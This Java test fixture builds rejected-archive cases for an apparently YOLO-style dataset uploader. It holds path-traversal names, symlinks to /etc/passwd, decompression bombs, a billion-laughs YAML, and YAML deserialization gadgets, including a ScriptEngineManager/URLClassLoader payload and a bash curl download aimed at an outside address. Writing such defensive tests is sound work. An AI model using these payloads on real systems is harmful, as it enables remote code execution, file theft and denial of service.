package io.lynceus.e2e.input;

import java.util.ArrayList;
import java.util.List;
import org.apache.commons.compress.archivers.tar.TarConstants;

/** Archives that are refused whole, because of one file, one name or one line in them. */
final class ArchiveCases {
  private static final String OUTSIDE = "outside itself";
  private static final String LINK = "link or device";
  private static final String GROWS = "grows more than";

  private ArchiveCases() {}

  /** {@code elsewhere} is an address that nobody is to go to. */
  static List<ArchiveCase> all(String elsewhere) {
    List<ArchiveCase> all = new ArrayList<>();
    all.addAll(names());
    all.addAll(kinds());
    all.addAll(sizes());
    all.addAll(programs(elsewhere));
    all.addAll(places());
    return all;
  }

  private static List<ArchiveCase> names() {
    List<ArchiveCase> all = new ArrayList<>();
    for (String name :
        List.of("../x.png", "a/../../x.png", "/etc/x.png", "C:\\x.png", "..\\x.png", "a\nb.png")) {
      String word = name.contains("\n") ? "no file has" : OUTSIDE;
      all.add(
          zip(
              "B23",
              "zip with " + name.replace("\n", " a line break "),
              word,
              Archives.yolo().and(name, "x")));
    }
    byte[] tar = Archives.yolo().and("../x.png", "x").tarGz();
    all.add(new ArchiveCase("B23", "tar with ../", OUTSIDE, tar));
    return all;
  }

  private static List<ArchiveCase> kinds() {
    byte[] linked = Archives.yolo().and("images/y.png", "/etc/passwd").zip("images/y.png");
    return List.of(
        new ArchiveCase("B24", "zip with a link", LINK, linked),
        tar("a link", TarConstants.LF_SYMLINK),
        tar("a hard link", TarConstants.LF_LINK),
        tar("a device", TarConstants.LF_CHR),
        tar("a pipe", TarConstants.LF_FIFO));
  }

  private static ArchiveCase tar(String what, byte kind) {
    byte[] tar = Archives.yolo().tarGz(Archives.special("images/y.png", kind, "/etc/passwd"));
    return new ArchiveCase("B24", "tar with " + what, LINK, tar);
  }

  private static List<ArchiveCase> sizes() {
    byte[] zeros = new byte[40 << 20];
    byte[] inner = Archives.of("data.yaml", "names: [a]").and("zeros", zeros).zip();
    String lines = "0 .5 .5 .1 .1\n".repeat(7_500_000);
    return List.of(
        zip("B25", "40 MB of nothing", GROWS, Archives.yolo().and("images/y.png", zeros)),
        new ArchiveCase(
            "B25",
            "40 MB of nothing in a tar",
            GROWS,
            Archives.yolo().and("images/y.png", zeros).tarGz()),
        new ArchiveCase("B25", "entries that overlap", "overlap", Archives.yolo().overlapping()),
        zip(
            "B25",
            "a zip in a zip",
            "no data.yaml",
            Archives.of("inner.zip", "").and("0.zip", inner)),
        new ArchiveCase("B25", "no archive", "neither a zip", Bytes.of("hello, I am an archive")),
        new ArchiveCase("B25", "half a zip", "damaged", half(Archives.yolo().zip())),
        new ArchiveCase("B25", "half a tar", "damaged", half(Archives.yolo().tarGz())),
        zip("B33", "a label file of 100 MB", GROWS, Archives.yolo().and("labels/x.txt", lines)));
  }

  private static List<ArchiveCase> programs(String elsewhere) {
    String script =
        "train: images\nnames: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://%s/\"]]]]\n"
            .formatted(elsewhere);
    String python = "train: images\nnames: !!python/object/apply:os.system [\"true\"]\n";
    String bash =
        "train: images\nnames: [a]\ndownload: bash curl http://%s/\n".formatted(elsewhere);
    String laughs = "a: &a [x, x, x, x, x, x, x, x, x]\n";
    for (char letter = 'b'; letter < 'k'; letter++) {
      char before = (char) (letter - 1);
      laughs += "%s: &%s [%s]\n".formatted(letter, letter, ("*" + before + ", ").repeat(9) + "x");
    }
    return List.of(
        yaml("B28", "a script engine", "cannot be read", script),
        yaml("B28", "a call of Python", "cannot be read", python),
        yaml("B29", "a billion laughs", "cannot be read", laughs + "names: *j\n"),
        yaml("B29", "10 MB", "more than", "names: [a]\n# " + "x".repeat(10 << 20)),
        yaml("B29", "10,000 levels", "cannot be read", "names: " + "[".repeat(10_000)),
        yaml("B30", "download by bash", "download", bash),
        yaml("B30", "download by Python", "download", "names: [a]\ndownload: |\n  import os\n"),
        yaml("B30", "download of a URL", "download", "names: [a]\ndownload: http://" + elsewhere));
  }

  private static List<ArchiveCase> places() {
    return List.of(
        yaml("B31", "path: /etc", "inside the archive", "path: /etc\ntrain: images\nnames: [a]\n"),
        yaml("B31", "train: ../../", "out of the archive", "train: ../../images\nnames: [a]\n"),
        yaml("B31", "nc is not the names", "nc is", "train: images\nnc: 3\nnames: [a]\n"),
        yaml("B31", "a name twice", "twice", "train: images\nnames: [a, a]\n"),
        yaml("B31", "a name with HTML", "class name", "train: images\nnames: ['<b>a</b>']\n"));
  }

  private static ArchiveCase yaml(String row, String what, String word, String yaml) {
    return zip(row, what, word, Archives.yolo(yaml));
  }

  private static ArchiveCase zip(String row, String what, String word, Archives files) {
    return new ArchiveCase(row, what, word, files.zip());
  }

  private static byte[] half(byte[] whole) {
    return Bytes.upTo(whole, whole.length / 2);
  }
}
